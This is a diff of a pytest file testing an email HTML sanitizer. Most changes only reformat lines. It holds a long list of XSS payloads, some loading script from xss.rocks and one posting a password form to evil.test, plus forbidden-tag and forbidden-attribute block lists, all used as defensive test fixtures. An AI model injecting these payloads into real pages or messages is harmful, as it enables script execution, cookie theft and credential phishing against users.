@@ -36,7 +36,7 @@ HOSTILE = [
     '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
     "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
     '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
-    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
     "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
     "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
     "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
@@ -45,8 +45,8 @@ HOSTILE = [
     '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
-    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
-    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
     '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
     "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
     '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
@@ -57,8 +57,10 @@ HOSTILE = [
     "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
     "<BASE HREF=\"javascript:alert('XSS');//\">",
     '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
-    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always">',
-    '<form action="https://evil.test"><input name="p" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" '
+    'AllowScriptAccess="always">',
+    '<form action="https://evil.test"><input name="p" type="password">'
+    '<button formaction="javascript:alert(1)">Go</button></form>',
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
     '<a href="vbscript:msgbox(1)">x</a>',
     '<a href="  javascript:alert(1)">x</a>',
@@ -83,18 +85,20 @@ HOSTILE = [
     '<img srcset="https://evil.test/a.png 1x">',
     "<button onclick=alert(1)>x</button><select onfocus=alert(1) autofocus><option>o</select>",
     "<textarea onfocus=alert(1) autofocus>t</textarea><keygen autofocus onfocus=alert(1)>",
-    "<img src=\"x:gif\" onerror=\"window['al\\u0065rt'](0)\"></img>",
+    '<img src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>',
     '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
     '<a href="https://ok.test" target="_self" rel="opener">ok</a>',
     '<div class="gmail_quote">On Tue <script>alert("quoted")</script><img src=x onerror=alert(2)></div>',
-    "<blockquote type=\"cite\"><a href=\"javascript:alert('cite')\">old</a></blockquote>",
+    '<blockquote type="cite"><a href="javascript:alert(\'cite\')">old</a></blockquote>',
     '<a href="/logout">relative</a><img src="/api/v1/tickets">',
 ]
 FORBIDDEN_TAGS = frozenset(
     """script style iframe frame frameset object embed form input button select textarea meta base link
     svg math video audio source template noscript xmp isindex keygen marquee applet title body""".split()
 )
-FORBIDDEN_ATTRIBUTES = frozenset({"style", "id", "name", "class", "srcset", "background", "formaction", "dynsrc", "lowsrc"})
+FORBIDDEN_ATTRIBUTES = frozenset(
+    {"style", "id", "name", "class", "srcset", "background", "formaction", "dynsrc", "lowsrc"}
+)
 RASTER_DATA = re.compile(r"data:image/(png|gif|jpeg|jpg|webp);base64,", re.I)
 CONTROL = re.compile(r"[\x00-\x20]")
 
@@ -138,7 +142,9 @@ def test_hostile_html_comes_out_harmless(snippet: str) -> None:
 @pytest.mark.parametrize("snippet", HOSTILE)
 def test_hostile_html_stays_harmless_with_remote_pictures_allowed(snippet: str) -> None:
     clean = clean_mail_html(snippet, show_remote_images=True)
-    allowed = [p for p in problems(clean.body + clean.quoted) if not p.startswith("img loads 'https:") and "//evil" not in p]
+    allowed = [
+        p for p in problems(clean.body + clean.quoted) if not p.startswith("img loads 'https:") and "//evil" not in p
+    ]
     assert allowed == []
 
 
@@ -151,7 +157,10 @@ def test_ordinary_formatting_links_and_tables_survive() -> None:
     body = clean_mail_html(html).body
     assert "<b>team</b>" in body and "<i>see</i>" in body and "<li>one</li>" in body
     assert '<td colspan="2" align="right">cell</td>' in body
-    assert {a["href"] for tag, a in elements(body) if tag == "a"} == {"https://example.com/a?b=1", "mailto:help@example.com"}
+    assert {a["href"] for tag, a in elements(body) if tag == "a"} == {
+        "https://example.com/a?b=1",
+        "mailto:help@example.com",
+    }
 
 
 def test_inline_images_point_at_their_scoped_attachment_url() -> None:
@@ -164,13 +173,19 @@ def test_inline_images_point_at_their_scoped_attachment_url() -> None:
 def test_remote_pictures_are_blocked_and_counted_until_allowed() -> None:
     html = '<p>Hi</p><img src="https://tracker.evil.test/p.gif" alt="pixel"><img src="data:image/png;base64,iVBORw0K">'
     blocked, shown = clean_mail_html(html), clean_mail_html(html, show_remote_images=True)
-    assert blocked.blocked_images == 1 and shown.blocked_images == 0
-    assert [a["src"] for _, a in elements(blocked.body) if "src" in a] == [REMOTE_IMAGE_PLACEHOLDER, "data:image/png;base64,iVBORw0K"]
+    assert blocked.remote_images == shown.remote_images == 1
+    assert [a["src"] for _, a in elements(blocked.body) if "src" in a] == [
+        REMOTE_IMAGE_PLACEHOLDER,
+        "data:image/png;base64,iVBORw0K",
+    ]
     assert 'src="https://tracker.evil.test/p.gif"' in shown.body and 'referrerpolicy="no-referrer"' in shown.body
 
 
 def test_quoted_history_comes_back_separately() -> None:
-    html = '<div>Thanks, that worked.</div><div class="gmail_quote">On Tue, Support wrote:<blockquote>Try again</blockquote></div>'
+    html = (
+        '<div>Thanks, that worked.</div><div class="gmail_quote">On Tue, Support wrote:'
+        "<blockquote>Try again</blockquote></div>"
+    )
     clean = clean_mail_html(html)
     assert "Thanks, that worked." in clean.body and "Try again" not in clean.body
     assert "Try again" in clean.quoted
